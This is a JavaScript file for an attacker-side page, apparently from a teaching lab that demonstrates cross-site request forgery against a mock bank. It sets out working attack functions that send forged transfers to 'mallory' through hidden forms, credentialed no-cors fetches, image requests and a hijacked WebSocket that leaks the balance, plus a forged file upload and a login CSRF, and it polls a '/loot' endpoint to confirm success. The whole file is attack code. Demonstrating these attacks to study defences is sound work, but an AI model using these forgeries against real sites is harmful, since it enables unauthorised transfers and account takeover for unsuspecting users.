// Everything that a page on another site can make its visitor's browser send. Nothing of it is a trick:
// browsers have allowed all of this since long before there were scripts.

const CENTS = 1000;
const WAIT_MS = 5000;
const STEP_MS = 400;

const bases = document.querySelector("main").dataset;
const euros = new Intl.NumberFormat("en", { style: "currency", currency: "EUR" });

const attacks = {
  form(base, note) {
    submit(`${base}/transfer`, { to: "mallory", amount: (CENTS / 100).toFixed(2), note });
  },
  fetch(base, note) {
    const body = JSON.stringify({ to: "mallory", cents: CENTS, note });
    // The answer is opaque: it says neither yes nor no.
    fetch(`${base}/api/transfers`, { method: "POST", mode: "no-cors", credentials: "include", body })
      .catch(() => {});
  },
  image(base, note) {
    const query = new URLSearchParams({ to: "mallory", amount: CENTS / 100, note });
    new Image().src = `${base}/transfer?${query}`;
  },
  socket(base, note, say) {
    const socket = new WebSocket(`${base.replace("http", "ws")}/live`);
    const transfer = { to: "mallory", cents: CENTS, note };
    socket.addEventListener("open", () => socket.send(JSON.stringify({ transfer })));
    socket.addEventListener("message", ({ data }) => {
      const { balance, transfer } = JSON.parse(data);
      // What was there before; the change that this order makes comes later.
      if (balance !== undefined && !transfer) {
        say(`The bank told this page how much there is: ${euros.format(balance / 100)}.`, "taken");
      }
    });
    socket.addEventListener("error", () => say("The connection did not open.", "safe"));
    setTimeout(() => socket.close(), WAIT_MS);
  },
  upload(base, note) {
    const input = document.createElement("input");
    const files = new DataTransfer();
    files.items.add(new File(["You owe mallory everything."], "i-owe-mallory.txt"));
    Object.assign(input, { type: "file", name: "file", files: files.files });
    submit(`${base}/statements`, { note }, input);
  },
  login(base) {
    submit(`${base}/login`, { username: "mallory", password: "moneybags" });
  },
};

// Their outcome arrives nowhere that mallory can look.
const unseen = {
  upload: "Sent. Look at the statements in the new tab.",
  login: "Sent. Look at who is logged in in the new tab.",
};

for (const button of document.querySelectorAll("[data-attack]")) {
  button.addEventListener("click", () => claim(button));
}
const sister = location.hostname === new URL(bases.bank).hostname;
document.querySelector("[data-here]").textContent =
  `${location.origin}, ${sister ? "a sister site" : "another site"}`;
count();

async function claim(button) {
  const { attack, target } = button.dataset;
  const place = button.parentElement.querySelector("[role=status]");
  const say = (text, kind = "") => {
    const line = document.createElement("span");
    line.textContent = text;
    line.className = kind;
    place.append(line);
  };
  place.replaceChildren();
  button.disabled = true;
  // Tells this press from all others when the money arrives.
  const note = `${attack} at the ${target}, ${crypto.getRandomValues(new Uint32Array(1))[0].toString(36)}`;
  attacks[attack](bases[target], note, say);
  if (unseen[attack]) {
    say(unseen[attack]);
  } else if (await arrives(note)) {
    say(`${euros.format(CENTS / 100)} have arrived at mallory's account.`, "taken");
  } else {
    say("Nothing has arrived.", "safe");
  }
  button.disabled = false;
}

function submit(action, fields, ...inputs) {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action, target: "_blank", hidden: true });
  for (const [name, value] of Object.entries(fields)) {
    inputs.push(Object.assign(document.createElement("input"), { name, value }));
  }
  if (inputs.some((input) => input.type === "file")) form.enctype = "multipart/form-data";
  form.append(...inputs);
  document.body.append(form);
  form.submit();
  form.remove();
}

async function arrives(note) {
  const end = Date.now() + WAIT_MS;
  while (Date.now() < end) {
    await new Promise((resolve) => { setTimeout(resolve, STEP_MS); });
    const loot = await count();
    if (loot?.arrived.some((transfer) => transfer.note === note)) return true;
  }
  return false;
}

async function count() {
  try {
    const loot = await (await fetch("/loot")).json();
    document.querySelector("[data-cents]").textContent = euros.format(loot.cents / 100);
    const rows = loot.arrived.slice(0, 8).map((transfer) => {
      const row = document.createElement("li");
      row.textContent = `${euros.format(transfer.cents / 100)} from ${transfer.from}: ${transfer.note}`;
      return row;
    });
    document.querySelector("[data-arrived]").replaceChildren(...rows);
    return loot;
  } catch {
    return null;
  }
}
